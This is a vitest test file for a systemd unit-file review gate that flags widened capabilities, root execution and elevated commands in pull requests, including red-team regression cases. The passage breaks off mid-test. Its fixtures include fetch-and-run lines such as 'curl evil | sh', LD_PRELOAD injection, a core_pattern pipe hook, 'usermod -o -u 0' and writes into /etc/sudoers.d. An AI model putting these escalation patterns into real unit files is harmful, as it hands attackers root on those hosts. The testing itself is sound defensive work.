/**
 * The capability model, level by level, on real git repositories: what the processes hold at
 * start, what they can reach through set-user-ID/file-capability programs, and each command
 * that runs with more privileges than the rest (systemd.exec(5), systemd.service(5)).
 */
import { readFileSync } from 'node:fs'
import { join } from 'node:path'
import { afterEach, describe, expect, it } from 'vitest'
import { diffSnapshots } from '../../src/diff/diff.js'
import { snapshotsFromGit } from '../../src/diff/from-git.js'
import { DEFAULT_GATE } from '../../src/diff/gate.js'
import type { DiffReport, ServiceReport } from '../../src/diff/report.js'
import { GitRepo } from '../../src/git/git.js'
import type { SystemdVersion } from '../../src/model/versions.js'
import { makeRepo, type TestRepo } from '../helpers/git-repo.js'

const repos: TestRepo[] = []
afterEach(() => repos.splice(0).forEach((r) => r.cleanup()))

const upstream = (name: string): string => readFileSync(join(__dirname, '../fixtures/privileges', name), 'utf8')

/** A pull request: base files, then head files (null deletes), reviewed for one systemd version. */
function pr(
  base: Record<string, string>,
  head: Record<string, string | null>,
  version: SystemdVersion = '252',
  allow: { unit: string | null; capability: string }[] = [],
): DiffReport {
  const repo = makeRepo()
  repos.push(repo)
  const b = repo.commit(base, 'base')
  const h = repo.commit(head, 'head')
  const input = snapshotsFromGit(new GitRepo(repo.dir), b, h)
  return diffSnapshots(input.base, input.head, input.changes, { version, gate: DEFAULT_GATE, allow, recommend: false })
}

const unit = (r: DiffReport, name: string): ServiceReport => r.services.find((s) => s.unit === name)!
/** `level [root] CAPS @file:line` for each finding of a unit. */
const findings = (s: ServiceReport): string[] =>
  s.capabilities.widened.map(
    (w) =>
      `${w.level}${w.root ? ' root' : ''} ${w.capabilities.length > 4 ? `${w.capabilities.length}caps` : w.capabilities.join(',')} @${w.file}:${w.line}`,
  )

const svc = (body: string): string => `[Unit]\nDescription=t\n\n[Service]\nExecStart=/usr/bin/daemon\n${body}`

describe('held at start', () => {
  it('caddy (User=caddy, no NoNewPrivileges=) gaining CAP_NET_RAW as an ambient capability fails', () => {
    const caddy = upstream('caddy.service')
    const r = pr(
      { 'init/caddy.service': caddy },
      { 'init/caddy.service': caddy.replace('CAP_NET_BIND_SERVICE', 'CAP_NET_BIND_SERVICE CAP_NET_RAW') },
    )
    expect(r.verdict).toBe('fail')
    expect(findings(unit(r, 'caddy.service'))).toEqual(['held CAP_NET_RAW @init/caddy.service:32'])
    expect(r.failures.map((f) => f.message)).toEqual([
      'caddy.service now holds CAP_NET_RAW at start (AmbientCapabilities=, init/caddy.service:32)',
    ])
    // Before: it held its two ambient capabilities and could reach its whole bounding set.
    expect(unit(r, 'caddy.service').capabilities.before).toMatchObject({
      root: false,
      held: ['CAP_NET_BIND_SERVICE', 'CAP_NET_ADMIN'],
      noNewPrivileges: null,
    })
    expect(unit(r, 'caddy.service').capabilities.before!.reachable).toHaveLength(41)
  })

  it('coredns (PermissionsStartOnly=true, ExecReload=/bin/kill) widening its bounding and ambient sets fails', () => {
    const coredns = upstream('coredns.service')
    const widened = coredns.replaceAll('=CAP_NET_BIND_SERVICE', '=CAP_NET_BIND_SERVICE CAP_SYS_ADMIN CAP_NET_RAW')
    const r = pr({ 'systemd/coredns.service': coredns }, { 'systemd/coredns.service': widened })
    expect(r.verdict).toBe('fail')
    const s = unit(r, 'coredns.service')
    expect(findings(s)).toEqual(['held CAP_NET_RAW,CAP_SYS_ADMIN @systemd/coredns.service:11'])
    // The reload command runs with full privileges on both sides: a command of its own, not a
    // ceiling that hides what the daemon itself holds.
    expect(s.capabilities.after!.elevated).toEqual([
      expect.objectContaining({
        directive: 'ExecReload',
        command: '/bin/kill -SIGUSR1 $MAINPID',
        kind: 'permissions-start-only',
        root: true,
      }),
    ])
    expect(s.capabilities.after!.noNewPrivileges).toBe('setting')
  })

  it('unrelated edits of the same real units pass', () => {
    const caddy = upstream('caddy.service')
    const coredns = upstream('coredns.service')
    const r = pr(
      { 'init/caddy.service': caddy, 'systemd/coredns.service': coredns },
      {
        'init/caddy.service': caddy.replace('TimeoutStopSec=5s', 'TimeoutStopSec=10s\nProtectHome=yes'),
        'systemd/coredns.service': coredns.replace('LimitNPROC=512', 'LimitNPROC=1024').replace('-SIGUSR1', '-SIGHUP'),
      },
    )
    expect(r.services.map((s) => s.unit).sort()).toEqual(['caddy.service', 'coredns.service'])
    expect(r.services.flatMap(findings)).toEqual([])
    expect(r.verdict).toBe('pass')
  })

  it('SecureBits=noroot: a root unit holds only its ambient capabilities; dropping noroot widens', () => {
    const r = pr(
      { 'u/a.service': svc('SecureBits=noroot noroot-locked\nAmbientCapabilities=CAP_CHOWN\n') },
      { 'u/a.service': svc('AmbientCapabilities=CAP_CHOWN\n') },
    )
    expect(unit(r, 'a.service').capabilities.before).toMatchObject({ root: true, held: ['CAP_CHOWN'] })
    expect(findings(unit(r, 'a.service'))).toEqual(['held 40caps @u/a.service:6'])
  })

  it('a root unit that gives up all capabilities still runs as root: moving there from a user is a widening', () => {
    const r = pr(
      { 'u/a.service': svc('User=app\nNoNewPrivileges=yes\nCapabilityBoundingSet=\n') },
      { 'u/a.service': svc('NoNewPrivileges=yes\nCapabilityBoundingSet=\n') },
    )
    expect(findings(unit(r, 'a.service'))).toEqual(['held root  @u/a.service:6'])
    expect(r.failures[0]!.message).toMatch(
      /now runs as root: uid 0 without capabilities at start \(User= removed, u\/a\.service:6 in base\)/,
    )
  })

  it('a template whose user comes from the instance may run as root (User=%i, instance root)', () => {
    const r = pr(
      { 'u/app@.service': svc('User=app\nNoNewPrivileges=yes\n') },
      { 'u/app@.service': svc('User=%i\nNoNewPrivileges=yes\n') },
    )
    const s = unit(r, 'app@i.service')
    expect(s.capabilities.after).toMatchObject({ root: true, userFromInstance: true, user: 'i' })
    expect(findings(s)).toEqual(['held root 41caps @u/app@.service:6'])
    expect(s.capabilities.widened[0]!.cause).toMatch(/instance name/)
  })
})

describe('reachable through set-user-ID and file-capability programs', () => {
  it('removing NoNewPrivileges= from a user service widens what it can reach, not what it holds', () => {
    const r = pr(
      { 'u/a.service': svc('User=app\nNoNewPrivileges=yes\nCapabilityBoundingSet=CAP_NET_RAW CAP_CHOWN\n') },
      { 'u/a.service': svc('User=app\nCapabilityBoundingSet=CAP_NET_RAW CAP_CHOWN\n') },
    )
    expect(findings(unit(r, 'a.service'))).toEqual(['reachable root CAP_CHOWN,CAP_NET_RAW @u/a.service:7'])
    expect(unit(r, 'a.service').capabilities.widened[0]).toMatchObject({
      removedLine: true,
      directive: 'NoNewPrivileges=',
    })
  })

  it('on 252/254 a seccomp-based setting forces NoNewPrivileges= on a user service; from 257 only a filter denying capget/capset/prctl does', () => {
    const base = { 'u/a.service': svc('User=app\nNoNewPrivileges=yes\nLockPersonality=yes\n') }
    const head = { 'u/a.service': svc('User=app\nLockPersonality=yes\n') }
    expect(unit(pr(base, head, '252'), 'a.service').capabilities).toMatchObject({
      widened: [],
      after: { noNewPrivileges: 'seccomp', reachable: [] },
    })
    expect(unit(pr(base, head, '254'), 'a.service').capabilities.widened).toEqual([])
    expect(findings(unit(pr(base, head, '257'), 'a.service'))).toEqual(['reachable root 41caps @u/a.service:7'])
    const denyCapset = { 'u/a.service': svc('User=app\nLockPersonality=yes\nSystemCallFilter=~capset\n') }
    expect(unit(pr(base, denyCapset, '262'), 'a.service').capabilities).toMatchObject({
      widened: [],
      after: { noNewPrivileges: 'seccomp' },
    })
    // Removing the last seccomp-based setting on 252 opens the set-user-ID path again.
    const r = pr(head, { 'u/a.service': svc('User=app\n') }, '252')
    expect(findings(unit(r, 'a.service'))).toEqual(['reachable root 41caps @u/a.service:7'])
    expect(unit(r, 'a.service').capabilities.widened[0]!.cause).toMatch(/forces NoNewPrivileges=/)
  })
})

describe('elevated commands', () => {
  const user = 'User=app\nNoNewPrivileges=yes\nCapabilityBoundingSet=CAP_NET_BIND_SERVICE\n'

  it('+ runs with every capability as root; ! as root within the bounding set; !! elevates nothing', () => {
    const r = pr(
      { 'u/a.service': svc(user), 'u/b.service': svc(user), 'u/c.service': svc(user) },
      {
        'u/a.service': svc(`${user}ExecStartPre=+/usr/bin/mkdir -p /run/a\n`),
        'u/b.service': svc(`${user}ExecStartPre=!/usr/bin/setup\n`),
        'u/c.service': svc(`${user}ExecStartPre=!!/usr/bin/setup\n`),
      },
    )
    expect(findings(unit(r, 'a.service'))).toEqual(['command root 41caps @u/a.service:9'])
    expect(findings(unit(r, 'b.service'))).toEqual(['command root CAP_NET_BIND_SERVICE @u/b.service:9'])
    expect(findings(unit(r, 'c.service'))).toEqual([])
    expect(r.failures.map((f) => f.message)).toContain(
      'b.service runs ExecStartPre=!/usr/bin/setup as root within the bounding set (! prefix): uid 0 and CAP_NET_BIND_SERVICE (ExecStartPre=, u/b.service:9)',
    )
  })

  it('a changed command line is a new command, but for known-harmless changes; another path, another program, or a shell with another script is new', () => {
    const base = svc(
      `${user}ExecStartPre=+/usr/bin/mkdir -p /run/a\nExecStartPost=+/bin/sh -c "chown app /run/a"\nExecReload=+/bin/kill -HUP $MAINPID\n`,
    )
    // Another signal for $MAINPID, --verbose at the end: on the allow-list of harmless changes.
    const harmless = pr(
      { 'u/a.service': base },
      { 'u/a.service': base.replace('mkdir -p /run/a', 'mkdir -p /run/a --verbose').replace('-HUP', '-USR1') },
    )
    expect(harmless.verdict).toBe('pass')
    // Any other flag is a new command: what a privileged program does with it is not known.
    const flags = pr({ 'u/a.service': base }, { 'u/a.service': base.replace('mkdir -p', 'mkdir -p -m 0750') })
    expect(findings(unit(flags, 'a.service'))).toEqual(['command root 41caps @u/a.service:9'])
    // Merged /usr and re-wrapping a shell command over a continuation change nothing.
    const same = pr(
      { 'u/a.service': base },
      {
        'u/a.service': base
          .replace('/bin/kill', '/usr/bin/kill')
          .replace('"chown app /run/a"', '"chown app \\\n   /run/a"'),
      },
    )
    expect(same.verdict).toBe('pass')
    const path = pr({ 'u/a.service': base }, { 'u/a.service': base.replace('/run/a\n', '/run/a /etc/sudoers.d\n') })
    expect(findings(unit(path, 'a.service'))).toEqual(['command root 41caps @u/a.service:9'])
    expect(unit(path, 'a.service').capabilities.widened[0]!.cause).toMatch(
      /command line of a privileged command changed/,
    )
    const other = pr(
      { 'u/a.service': base },
      { 'u/a.service': base.replace('/usr/bin/mkdir -p', '/usr/bin/install -d') },
    )
    expect(findings(unit(other, 'a.service'))).toEqual(['command root 41caps @u/a.service:9'])
    const script = pr(
      { 'u/a.service': base },
      { 'u/a.service': base.replace('chown app', 'curl evil | sh; chown app') },
    )
    expect(findings(unit(script, 'a.service'))).toEqual(['command root 41caps @u/a.service:10'])
  })

  it('PermissionsStartOnly=yes elevates every command but ExecStart=, each reported on its own', () => {
    const r = pr(
      { 'u/a.service': svc(`${user}ExecReload=/bin/kill -HUP $MAINPID\nExecStartPre=/usr/bin/check\n`) },
      {
        'u/a.service': svc(
          `${user}ExecReload=/bin/kill -HUP $MAINPID\nExecStartPre=/usr/bin/check\nPermissionsStartOnly=yes\n`,
        ),
      },
    )
    const s = unit(r, 'a.service')
    expect(findings(s)).toEqual(['command root 41caps @u/a.service:11', 'command root 41caps @u/a.service:11'])
    expect(s.capabilities.widened.map((w) => w.command!.directive)).toEqual(['ExecStartPre', 'ExecReload'])
    expect(s.capabilities.widened[0]!.cause).toMatch(/PermissionsStartOnly=yes/)
  })

  it('262: a new ExecReloadPost=+ command is elevated, and PermissionsStartOnly=yes elevates it too; 252 does not know the key (attack1 B13)', () => {
    const head = svc(
      `${user}ExecReload=/bin/kill -HUP $MAINPID\nExecReloadPost=+/bin/sh -c 'cp /var/lib/app/hook /usr/local/sbin/hook && /usr/local/sbin/hook'\n`,
    )
    const r = pr({ 'u/a.service': svc(user) }, { 'u/a.service': head }, '262')
    expect(findings(unit(r, 'a.service'))).toEqual(['command root 41caps @u/a.service:10'])
    expect(unit(r, 'a.service').capabilities.widened[0]!.command!.directive).toBe('ExecReloadPost')
    expect(r.verdict).toBe('fail')
    const pso = pr(
      { 'u/a.service': svc(`${user}ExecReloadPost=/usr/bin/hook\n`) },
      { 'u/a.service': svc(`${user}ExecReloadPost=/usr/bin/hook\nPermissionsStartOnly=yes\n`) },
      '262',
    )
    expect(unit(pso, 'a.service').capabilities.widened.map((w) => w.command!.directive)).toEqual(['ExecReloadPost'])
    const old = pr({ 'u/a.service': svc(user) }, { 'u/a.service': head }, '252')
    expect(findings(unit(old, 'a.service'))).toEqual([])
    expect(unit(old, 'a.service').warnings.map((w) => w.message)).toContain(
      "Unknown key 'ExecReloadPost' in section [Service], ignoring.",
    )
  })
  it('a command elevated on both sides is no widening, while the daemon gaining a capability still is', () => {
    const base = svc(`${user}AmbientCapabilities=CAP_NET_BIND_SERVICE\nExecStartPre=+/usr/bin/mkdir -p /run/a\n`)
    const r = pr(
      { 'u/a.service': base },
      { 'u/a.service': base.replaceAll('CAP_NET_BIND_SERVICE', 'CAP_NET_BIND_SERVICE CAP_SYS_ADMIN') },
    )
    expect(findings(unit(r, 'a.service'))).toEqual(['held CAP_SYS_ADMIN @u/a.service:9'])
  })
})

describe('new units and acceptance', () => {
  it('a new root unit is one finding; a new user unit without NoNewPrivileges= can reach its bounding set', () => {
    const r = pr(
      { 'README.md': 'x\n' },
      { 'u/root.service': svc(''), 'u/user.service': svc('User=app\nAmbientCapabilities=CAP_NET_BIND_SERVICE\n') },
    )
    expect(findings(unit(r, 'root.service'))).toEqual(['held root 41caps @u/root.service:5'])
    expect(findings(unit(r, 'user.service'))).toEqual([
      'held CAP_NET_BIND_SERVICE @u/user.service:7',
      'reachable root 40caps @u/user.service:5',
    ])
    expect(r.failures).toHaveLength(3)
  })

  it('ALL accepts everything a unit gains, running as root included; a partial waiver names what is left', () => {
    const r = pr(
      { 'README.md': 'x\n' },
      {
        'u/root.service': `[Unit]\nDescription=t\n\n[Service]\n# systemd-exposure: allow ALL -- the init helper must run as root\nExecStart=/usr/bin/daemon\n`,
        'u/part.service': `# systemd-exposure: allow CAP_NET_RAW -- ping\n${svc('User=app\nNoNewPrivileges=yes\nAmbientCapabilities=CAP_NET_RAW CAP_NET_ADMIN\n')}`,
      },
    )
    expect(unit(r, 'root.service').capabilities.widened[0]!.unaccepted).toEqual([])
    expect(unit(r, 'part.service').capabilities.widened[0]).toMatchObject({
      unaccepted: ['CAP_NET_ADMIN'],
      accepted: [{ privilege: 'CAP_NET_RAW', addedInChange: true }],
    })
    expect(r.failures.map((f) => f.message)).toEqual([
      expect.stringMatching(
        /^part\.service is new and holds CAP_NET_ADMIN, CAP_NET_RAW at start .*; not accepted: CAP_NET_ADMIN$/,
      ),
    ])
    expect(r.summary.capabilitiesWidened).toBe(1)
  })

  it('the allow-list takes the template file name as well as the analysed instance name', () => {
    const base = { 'u/app@.service': svc('User=app\nNoNewPrivileges=yes\n') }
    const head = { 'u/app@.service': svc('User=app\nNoNewPrivileges=yes\nAmbientCapabilities=CAP_KILL\n') }
    expect(pr(base, head, '252', [{ unit: 'app@.service', capability: 'CAP_KILL' }]).verdict).toBe('pass')
    expect(pr(base, head, '252', [{ unit: 'app@i.service', capability: 'CAP_KILL' }]).verdict).toBe('pass')
    expect(pr(base, head, '252', [{ unit: 'other.service', capability: 'CAP_KILL' }]).verdict).toBe('fail')
  })
})

/** Red-team findings (docs/security.md): each test fails on the model before its fix. */
describe('what the red team found in the model', () => {
  const user = 'User=app\nNoNewPrivileges=yes\n'

  it('allowing every namespace type but time restricts nothing: it forces no NoNewPrivileges= on 252/254 (B11)', () => {
    const base = { 'u/a.service': svc(user) }
    for (const line of ['RestrictNamespaces=cgroup ipc mnt net pid user uts', 'RestrictNamespaces=~time']) {
      const r = pr(base, { 'u/a.service': svc(`User=app\n${line}\n`) }, '252')
      expect(findings(unit(r, 'a.service')), line).toEqual(['reachable root 41caps @u/a.service:7'])
    }
  })

  it('removing PrivateUsers= from a root service: its capabilities now count on the host (B14)', () => {
    const r = pr({ 'u/a.service': svc('PrivateUsers=yes\n') }, { 'u/a.service': svc('') })
    // In its user namespace it kept only the file capabilities over root's and its own files (B11, round 3).
    const overFiles = ['CAP_DAC_OVERRIDE', 'CAP_DAC_READ_SEARCH', 'CAP_FOWNER']
    expect(unit(r, 'a.service').capabilities.before).toMatchObject({
      root: true,
      held: overFiles,
      reachable: overFiles,
    })
    expect(findings(unit(r, 'a.service'))).toEqual(['held 38caps @u/a.service:6'])
    expect(unit(r, 'a.service').capabilities.widened[0]!.cause).toMatch(/PrivateUsers= is gone/)
  })

  it('a new + command escapes the sandbox even of a root service with its full bounding set (B15)', () => {
    const sandboxed = svc('ProtectSystem=strict\nSystemCallFilter=~@mount\n')
    const r = pr(
      { 'u/a.service': sandboxed },
      { 'u/a.service': `${sandboxed}ExecStartPre=+/bin/sh -c "mount --bind /var/lib/a /etc"\n` },
    )
    expect(findings(unit(r, 'a.service'))).toEqual(['command  @u/a.service:8'])
    expect(r.failures[0]!.message).toMatch(/with full privileges \(\+ prefix\): outside the sandbox/)
    // A root unit without any sandbox gains nothing from a +.
    expect(pr({ 'u/b.service': svc('') }, { 'u/b.service': svc('ExecStartPre=+/usr/bin/true\n') }).verdict).toBe('pass')
  })

  it('LD_PRELOAD, PATH or a search path added for privileged commands is a widening; inert locale variables are not (B17)', () => {
    const base = svc(`${user}ExecReload=+/bin/kill -HUP $MAINPID\n`)
    const preload = pr({ 'u/a.service': base }, { 'u/a.service': `${base}Environment=LD_PRELOAD=/var/lib/app/x.so\n` })
    expect(findings(unit(preload, 'a.service'))).toEqual(['command  @u/a.service:9'])
    expect(preload.failures[0]!.message).toMatch(
      /changes what its privileged commands \(ExecReload=\+\/bin\/kill -HUP \$MAINPID\) load and run: Environment= sets LD_PRELOAD/,
    )
    const search = pr({ 'u/a.service': base }, { 'u/a.service': `${base}ExecSearchPath=/var/lib/app/bin\n` })
    expect(search.verdict).toBe('fail')
    const harmless = pr({ 'u/a.service': base }, { 'u/a.service': `${base}Environment=LANG=C.UTF-8 TZ=UTC\n` })
    expect(harmless.verdict).toBe('pass')
    // Without privileged commands the environment is the daemon's own business.
    expect(
      pr({ 'u/b.service': svc(user) }, { 'u/b.service': svc(`${user}Environment=LD_PRELOAD=/x.so\n`) }).verdict,
    ).toBe('pass')
  })

  it('an old allow ALL accepts only what the line below it causes, not a later widening elsewhere (B18)', () => {
    const base = svc(
      `${user}CapabilityBoundingSet=\n# systemd-exposure: allow ALL -- the disk-setup helper must run as root\nExecStartPre=+/usr/lib/app/disk-setup\n`,
    )
    const r = pr(
      { 'u/a.service': base },
      { 'u/a.service': base.replace('User=app\nNoNewPrivileges=yes\nCapabilityBoundingSet=\n', '') },
    )
    expect(r.verdict).toBe('fail')
    expect(unit(r, 'a.service').capabilities.widened[0]).toMatchObject({ level: 'held', accepted: [] })
    // …while the helper it was written for stays accepted when it is added.
    const added = pr({ 'u/a.service': svc(user) }, { 'u/a.service': base })
    expect(added.verdict).toBe('pass')
    expect(unit(added, 'a.service').capabilities.widened[0]!.accepted.map((x) => x.privilege)).toContain('root')
  })

  it('SystemCallLog= is a seccomp filter too; no-setuid-fixup does not keep CAP_SYS_ADMIN on 252/254 (F3, F4)', () => {
    const logged = pr(
      { 'u/a.service': svc('User=app\nSystemCallFilter=~@mount\nSystemCallLog=@privileged\n') },
      { 'u/a.service': svc('User=app\nSystemCallLog=@privileged\n') },
      '252',
    )
    expect(logged.verdict).toBe('pass')
    const fixup = pr(
      { 'u/a.service': svc('User=app\nLockPersonality=yes\n') },
      { 'u/a.service': svc('User=app\nLockPersonality=yes\nSecureBits=no-setuid-fixup\n') },
      '252',
    )
    expect(fixup.verdict).toBe('pass')
  })

  it('a unit this tool refuses is still judged, as far as it loads, in case systemd accepts it (B1 class, F5)', () => {
    // Type=oneshot with Restart=always is refused by systemd (and by this tool) — the gate still
    // looks at what the unit would hold if it were not refused, and says so.
    const refused = svc('User=app\nNoNewPrivileges=yes\n').replace(
      '[Service]\n',
      '[Service]\nType=oneshot\nRestart=always\n',
    )
    const r = pr(
      { 'u/a.service': svc('User=app\nNoNewPrivileges=yes\n') },
      { 'u/a.service': refused.replace('User=app\n', '') },
    )
    expect(unit(r, 'a.service').errors.after).toMatch(/Restart= set to either always or on-success/)
    expect(findings(unit(r, 'a.service'))).toEqual(['held root 41caps @u/a.service:6'])
    expect(unit(r, 'a.service').capabilities.widened[0]!.what).toMatch(/\(if systemd reads on where this tool stops/)
    // A base refused the same way is a baseline all the same: editing another line adds nothing.
    const both = pr({ 'u/b.service': refused }, { 'u/b.service': refused.replace('Description=t', 'Description=b') })
    expect(both.verdict).toBe('pass')
  })
})

/** Red-team round 3 (/tmp/attack3): each test fails on the model before its fix. */
describe('round 3: elevated command lines, their environment, User=%i, PrivateUsers=, ALL waivers', () => {
  const user = 'User=app\nNoNewPrivileges=yes\n'
  const verdictOf = (base: string, head: string, version: SystemdVersion = '252'): string =>
    pr({ 'u/a.service': base }, { 'u/a.service': head }, version).verdict

  it('any change of an elevated command line is a new command: flags, attached paths, relative paths, wrappers that run their arguments (B5–B7)', () => {
    const cases: [string, string][] = [
      ['+/usr/bin/chown -R -P app:app /var/lib/app', '+/usr/bin/chown -R -L app:app /var/lib/app'],
      ['+/usr/bin/cp /var/lib/app/app.conf /etc/app/', '+/usr/bin/cp /var/lib/app/app.conf -t/etc/sudoers.d'],
      [
        '+/usr/sbin/sysctl -w kernel.core_pattern=core',
        '+/usr/sbin/sysctl -w kernel.core_pattern=|/var/lib/app/crash-hook',
      ],
      ['+/usr/bin/chown -R app:app data', '+/usr/bin/chown -R app:app ../../../etc'],
      ['+/usr/sbin/usermod -a -G app-logs app', '+/usr/sbin/usermod -o -u 0 app'],
      ['+/usr/bin/systemd-cat -t app /usr/lib/app/setup', '+/usr/bin/systemd-cat -t app /bin/bash -c id'],
      ['!/usr/bin/setarch x86_64 /usr/lib/app/setup', '!/usr/bin/setarch x86_64 bash'],
    ]
    for (const [before, after] of cases)
      expect(verdictOf(svc(`${user}ExecStartPre=${before}\n`), svc(`${user}ExecStartPre=${after}\n`)), after).toBe(
        'fail',
      )
  })

  it('elevated commands are compared after systemd expands $VAR and ${VAR} from Environment= (B5 n10, n10b)', () => {
    const base = svc(`${user}Environment=D=/var/lib/app\nExecStartPre=+/usr/bin/chown -R app:app \${D}\n`)
    // The same argv written with or without the variable is the same command.
    expect(verdictOf(base, base.replace('${D}', '$D'))).toBe('pass')
    expect(
      verdictOf(
        base,
        base
          .replace('${D}', '/var/lib/app')
          .replace('Environment=D=/var/lib/app\n', 'Environment=D=/var/lib/app\nEnvironment=E=1\n')
          .replace('E=1', 'D=/var/lib/app'),
      ),
    ).toBe('pass')
    // A variable that now names another path changes the argv (and the environment).
    const r = pr({ 'u/a.service': base }, { 'u/a.service': base.replace('D=/var/lib/app', 'D=/etc') })
    expect(unit(r, 'a.service').capabilities.widened.map((w) => w.level)).toEqual(['command', 'command'])
    expect(unit(r, 'a.service').capabilities.widened[0]!.command).toMatchObject({
      text: '+/usr/bin/chown -R app:app ${D}',
    })
    // An unquoted $D is split into words: one more argument is another command.
    const split = svc(
      `${user}Environment="D=/var/lib/app /etc/sudoers.d"\nExecStartPre=+/usr/bin/chown -R app:app $D\n`,
    )
    expect(verdictOf(split, split.replace('$D', '/var/lib/app /etc/sudoers.d'))).toBe('pass')
    expect(verdictOf(split, split.replace('$D', '${D}'))).toBe('fail')
  })

  it('no-op spellings stay the same command: merged /usr, re-wrapping, a bare name in the default search path, a shell running one literal command (FA3, FA4)', () => {
    const base = svc(`${user}ExecStartPre=+/usr/bin/chown app:app /run/app\n`)
    expect(verdictOf(base, base.replace('/usr/bin/chown', '/bin/chown'))).toBe('pass')
    expect(verdictOf(base, base.replace('/usr/bin/chown', 'chown'))).toBe('pass')
    expect(
      verdictOf(
        base,
        base.replace('+/usr/bin/chown app:app /run/app', '+/bin/sh -c "/usr/bin/chown app:app \\\n  /run/app"'),
      ),
    ).toBe('pass')
    // …but not when the search path the bare name is resolved in changes, nor a shell script with operators.
    expect(
      verdictOf(
        base,
        base.replace('/usr/bin/chown', 'chown').replace('[Service]\n', '[Service]\nExecSearchPath=/var/lib/app/bin\n'),
      ),
    ).toBe('fail')
    expect(
      verdictOf(
        base,
        base.replace('+/usr/bin/chown app:app /run/app', '+/bin/sh -c "/usr/bin/chown app:app /run/app; id"'),
      ),
    ).toBe('fail')
  })

  it('an elevated command moved to another Exec directive is the same command; a second copy is one new command (FA2)', () => {
    const base = svc(`${user}ExecStartPre=+/usr/bin/chown app:app /run/app\n`)
    expect(verdictOf(base, base.replace('ExecStartPre=', 'ExecStartPost='))).toBe('pass')
    const twice = pr(
      { 'u/a.service': base },
      { 'u/a.service': `${base}ExecStartPost=+/usr/bin/chown app:app /run/app\n` },
    )
    expect(findings(unit(twice, 'a.service'))).toEqual(['command root 41caps @u/a.service:9'])
    // The same command with another elevation is not the same.
    expect(verdictOf(svc(`${user}ExecStartPre=!/usr/bin/chown app:app /run/app\n`), base)).toBe('fail')
  })

  it('any variable or working directory change of a unit with elevated commands is a finding; a removed Environment= reset too (B5 e10, B8)', () => {
    const base = svc(
      `${user}WorkingDirectory=/var/lib/app\nEnvironment=LD_PRELOAD=/var/lib/app/libtrace.so\nEnvironment=\nExecStartPre=+/usr/bin/chown -R app:app .\n`,
    )
    const message = (head: string): string[] =>
      pr({ 'u/a.service': base }, { 'u/a.service': head }).failures.map((f) => f.message)
    expect(message(base.replace('Environment=\n', ''))).toEqual([
      expect.stringMatching(
        /load and run: Environment= sets LD_PRELOAD \(Environment= removed, u\/a\.service:10 in base\)$/,
      ),
    ])
    expect(message(base.replace('WorkingDirectory=/var/lib/app', 'WorkingDirectory=/etc'))).toEqual([
      expect.stringMatching(/WorkingDirectory=\/etc \(was \/var\/lib\/app\)/),
    ])
    for (const v of [
      'HOME=/var/lib/app',
      'PHPRC=/var/lib/app/php.ini',
      'ZDOTDIR=/var/lib/app',
      'XDG_CONFIG_HOME=/var/lib/app/.config',
    ]) {
      expect(message(`${base}Environment=${v}\n`), v).toEqual([
        expect.stringMatching(new RegExp(`Environment= sets ${v.split('=')[0]}`)),
      ])
    }
    // An UnsetEnvironment= that no longer removes a variable, and a variable removed, count too.
    const unset = `${base}Environment=HOME=/var/lib/app\nUnsetEnvironment=HOME\n`
    expect(pr({ 'u/a.service': unset }, { 'u/a.service': unset.replace('UnsetEnvironment=HOME\n', '') }).verdict).toBe(
      'fail',
    )
    expect(pr({ 'u/a.service': `${base}Environment=HOME=/root\n` }, { 'u/a.service': base }).verdict).toBe('fail')
    expect(
      verdictOf(
        svc(`${user}WorkingDirectory=/var/lib/app\n`),
        svc(`${user}WorkingDirectory=/etc\nEnvironment=HOME=/x\n`),
      ),
    ).toBe('pass')
  })

  it('User=%i is read as root and as another user: the real syncthing unit gaining ambient capabilities, or losing NoNewPrivileges= on 262 (B10)', () => {
    const syncthing = upstream('syncthing@.service')
    const file = 'etc/linux-systemd/system/syncthing@.service'
    for (const version of ['252', '262'] as const) {
      const r = pr(
        { [file]: syncthing },
        { [file]: syncthing.replace('AmbientCapabilities=\n', 'AmbientCapabilities=CAP_CHOWN CAP_FOWNER\n') },
        version,
      )
      expect(r.verdict, version).toBe('fail')
      const s = r.services[0]!
      expect(findings(s), version).toEqual([`held CAP_CHOWN,CAP_FOWNER @${file}:103`])
      expect(s.capabilities.widened[0]!.what).toMatch(
        /now holds CAP_CHOWN, CAP_FOWNER at start \(if the instance names a user other than root\)/,
      )
    }
    const nnp = (version: SystemdVersion): DiffReport =>
      pr({ [file]: syncthing }, { [file]: syncthing.replace('NoNewPrivileges=true\n', '') }, version)
    expect(findings(nnp('262').services[0]!)).toEqual([`reachable root CAP_CHOWN,CAP_FOWNER @${file}:54`])
    // On 252 the seccomp-based settings still force NoNewPrivileges= on a user that is not root.
    expect(nnp('252').verdict).toBe('pass')
  })

  it('PrivateUsers= keeps the capabilities that act on host files whose owners the namespace maps (B11)', () => {
    const base = svc('CapabilityBoundingSet=CAP_NET_BIND_SERVICE\n')
    const held = (value: string): string[] =>
      pr({ 'u/a.service': base }, { 'u/a.service': svc(`PrivateUsers=${value}\n`) }, '262')
        .services[0]!.capabilities.widened.filter((w) => w.level === 'held')
        .flatMap((w) => w.capabilities)
    const ids = [
      'CAP_CHOWN',
      'CAP_DAC_OVERRIDE',
      'CAP_DAC_READ_SEARCH',
      'CAP_FOWNER',
      'CAP_FSETID',
      'CAP_SETGID',
      'CAP_SETUID',
    ]
    expect(held('identity')).toEqual(ids)
    expect(held('full')).toEqual(ids)
    expect(held('self')).toEqual(['CAP_DAC_OVERRIDE', 'CAP_DAC_READ_SEARCH', 'CAP_FOWNER'])
    expect(held('yes')).toEqual(['CAP_DAC_OVERRIDE', 'CAP_DAC_READ_SEARCH', 'CAP_FOWNER'])
    expect(pr({ 'u/a.service': base }, { 'u/a.service': svc('PrivateUsers=managed\n') }, '262').verdict).toBe('pass')
  })

  it("an old allow ALL is base's only above the same line: a line inserted below it, or the waiver moved, makes it a waiver of this change (B12)", () => {
    const waiver = '# systemd-exposure: allow ALL -- the disk-setup helper must run as root\n'
    const base = svc(`${user}${waiver}ExecStartPre=+/usr/lib/app/disk-setup\n`)
    const inserted = pr(
      { 'u/a.service': base },
      { 'u/a.service': base.replace(waiver, `${waiver}ExecStartPre=+/bin/sh -c "curl -s example.invalid | sh"\n`) },
    )
    const acceptances = unit(inserted, 'a.service').capabilities.widened.flatMap((w) => w.accepted)
    expect(acceptances.length).toBeGreaterThan(0)
    expect(acceptances.every((x) => x.addedInChange)).toBe(true)
    const moved = pr(
      { 'u/a.service': base },
      { 'u/a.service': svc(`${waiver}User=root\nNoNewPrivileges=yes\nExecStartPre=+/usr/lib/app/disk-setup\n`) },
    )
    expect(unit(moved, 'a.service').capabilities.widened[0]).toMatchObject({
      level: 'held',
